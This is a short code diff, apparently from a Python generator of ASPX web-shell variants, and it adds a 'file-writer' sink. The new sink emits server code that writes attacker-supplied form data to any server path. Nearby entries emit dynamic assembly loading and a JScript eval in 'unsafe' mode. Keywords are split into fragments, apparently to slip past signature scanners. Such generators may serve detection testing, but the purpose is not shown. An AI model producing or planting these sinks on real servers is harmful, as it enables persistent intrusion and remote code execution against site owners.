@@ -99,6 +99,13 @@ SINKS: dict[str, tuple[str, Sink]] = {
             'res.CompiledAssembly.CreateInstance("U");',
         ],
     ),
+    "file-writer": (
+        "aspx.file-writer",
+        lambda e: [
+            f'System.IO.File.{t("WriteAll", "Text")}(Server.MapPath({e}), {REQ}.Form["body"]);',
+            'Response.Write("saved");',
+        ],
+    ),
     "jscript-eval": ("aspx.jscript-eval", lambda e: [f'Response.Write({t("ev", "al")}({e}, "{t("uns", "afe")}"));']),
 }
 JSCRIPT_SINKS = {"jscript-eval"}
